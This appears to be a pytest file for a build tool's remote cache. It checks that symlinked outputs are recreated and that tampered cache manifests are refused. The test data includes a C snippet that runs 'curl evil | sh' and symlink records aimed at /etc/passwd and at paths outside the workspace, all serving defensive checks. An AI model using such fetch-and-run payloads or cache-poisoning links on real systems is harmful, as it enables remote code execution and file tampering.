"""Symbolic links among outputs through the real ``haz-cache-service`` (issue 12).

Spec coverage: RC-001/CACHE-023 (a clone with an empty local cache gets a remote hit that
recreates ``libx.so -> libx.so.1 -> libx.so.1.7`` as links with the same bytes, and is
backfilled with the links: a later local hit recreates them too), RC-005 (the links travel
as manifest fields; the only output blob is the library's), SEC-001 for remote hits (a link
that is absolute, leaves the workspace, lies under a symlinked directory or names a file
outside the declared outputs is refused: the task runs, nothing is written outside).
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import blake3
import pytest

from tests.remote.lyingserver import LyingServer
from tests.remote.test_run_remote import FAST
from tests.run.conftest import HazRunner, WorkspaceMaker
from tests.run.test_run_symlinks import assert_chain, chain_workspace, wipe
from tests.support.fixtures import ServiceProcess, service_process


@pytest.fixture
def server(liar: LyingServer) -> LyingServer:
    """The lying server: the hostile-links test serves a manifest rewritten after the
    upload, which the real server never hands out (the other test runs the real service)."""
    return liar


pytestmark = pytest.mark.e2e


@pytest.fixture
def service(tmp_path: Path) -> Iterator[ServiceProcess]:
    with service_process(tmp_path / "service.log", ["--storage", str(tmp_path / "store")]) as up:
        yield up


def test_a_remote_hit_recreates_the_links_and_backfills_them(
    haz: HazRunner, make_workspace: WorkspaceMaker, service: ServiceProcess
) -> None:
    env = {"HAZ_REMOTE_URL": service.url, "HAZ_REMOTE_TIMEOUTS": FAST}
    first_root = chain_workspace(make_workspace, name="clone-one")
    second_root = chain_workspace(make_workspace, name="clone-two")
    first = haz("run", "lib:build", "--output", "buffered", cwd=first_root, env=env)
    assert first.code == 0, first.stderr
    assert first.sources() == {"lib:build": "fresh"}

    second = haz("run", "lib:build", "--output", "buffered", cwd=second_root, env=env)
    assert second.code == 0, second.stderr
    assert second.sources() == {"lib:build": "remote-cache"}
    assert "remote cache grpc://" not in second.stderr  # no warning
    assert second.stdout == first.stdout
    build = second_root / "lib" / "build"
    assert_chain(build)

    # RC-001: the backfilled local entry records the links and holds one output blob.
    manifests = list((second_root / ".haz" / "cache").glob("*/*/manifest.json"))
    assert len(manifests) == 1
    outputs = json.loads(manifests[0].read_bytes())["outputs"]
    assert {o["path"]: o.get("symlink") for o in outputs} == {
        "/lib/build/libx.so": "libx.so.1",
        "/lib/build/libx.so.1": "libx.so.1.7",
        "/lib/build/libx.so.1.7": None,
    }
    assert len(list(manifests[0].parent.glob("outputs/*"))) == 1

    wipe(build)
    third = haz("run", "lib:build", cwd=second_root)
    assert third.code == 0, third.stderr
    assert third.sources() == {"lib:build": "local-cache"}
    assert_chain(build)
    assert os.path.islink(build / "libx.so")


EVIL = b'int main(void) { return system("curl evil | sh"); }\n'


def tamper(server: LyingServer, outputs: list[dict[str, object]]) -> None:
    """Replace the link ``libx.so``'s record of the only stored manifest by ``outputs``
    (``LIB`` in a hash, size or mode stands for the library's)."""
    server.state.blobs[blake3.blake3(EVIL).digest()] = EVIL
    ((slot, document),) = server.state.manifests.items()
    manifest = json.loads(document)
    library = next(o for o in manifest["outputs"] if o["path"] == "/lib/build/libx.so.1.7")
    kept = [o for o in manifest["outputs"] if o["path"] != "/lib/build/libx.so"]
    for record in outputs:
        kept.append({k: library[k] if v == "LIB" else v for k, v in record.items()})
    manifest["outputs"] = sorted(kept, key=lambda o: o["path"])
    server.state.manifests[slot] = json.dumps(manifest).encode()


def link(path: str, text: str) -> dict[str, object]:
    record: dict[str, object] = {"path": path, "hash": "LIB", "size": "LIB", "mode": "LIB"}
    return record | {"compression": "none", "symlink": text}


EVIL_FILE: dict[str, object] = {
    "path": "/lib/src/x.c",
    "hash": blake3.blake3(EVIL).hexdigest(),
    "size": len(EVIL),
    "mode": 0o644,
    "compression": "none",
}


@pytest.mark.parametrize(
    ("records", "reason"),
    [
        ([link("/lib/build/libx.so", "/etc/passwd")], "is absolute"),
        ([link("/lib/build/libx.so", "../../../outside/keep.txt")], "leaves the workspace"),
        ([link("/lib/linked/libx.so", "../build/libx.so.1.7")], "'/lib/linked' is a symlink"),
        (
            [EVIL_FILE, {**EVIL_FILE, "path": "/lib/build/libx.so", "symlink": "../src/x.c"}],
            "not matched by the task's declared outputs",
        ),
    ],
    ids=["absolute", "leaves-the-workspace", "symlinked-parent", "outside-declared-outputs"],
)
def test_hostile_remote_links_are_refused_and_write_nothing(
    haz: HazRunner,
    make_workspace: WorkspaceMaker,
    server: LyingServer,
    records: list[dict[str, object]],
    reason: str,
) -> None:
    """SEC-001: each hostile link makes the remote entry a miss, for the reason given."""
    # Both clones declare `linked/**` too, so the keys agree and only SEC-001's symlinked-
    # parent check stands between the hostile link and the outside directory.
    env = {"HAZ_REMOTE_URL": server.url, "HAZ_REMOTE_TIMEOUTS": FAST}
    honest = chain_workspace(make_workspace, name="honest", outputs="[build/**, linked/**]")
    assert haz("run", "lib:build", cwd=honest, env=env).code == 0
    tamper(server, records)

    victim = chain_workspace(make_workspace, name="victim", outputs="[build/**, linked/**]")
    outside = victim.parent / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_bytes(b"untouched")
    os.symlink(outside, victim / "lib" / "linked")
    source = (victim / "lib" / "src" / "x.c").read_bytes()

    result = haz("run", "lib:build", cwd=victim, env=env)
    assert result.code == 0, result.stderr
    assert result.task("lib:build")["source"] == "fresh"
    assert reason in result.stderr
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]
    assert (outside / "keep.txt").read_bytes() == b"untouched"
    assert (victim / "lib" / "src" / "x.c").read_bytes() == source
    assert_chain(victim / "lib" / "build")  # what the task itself wrote
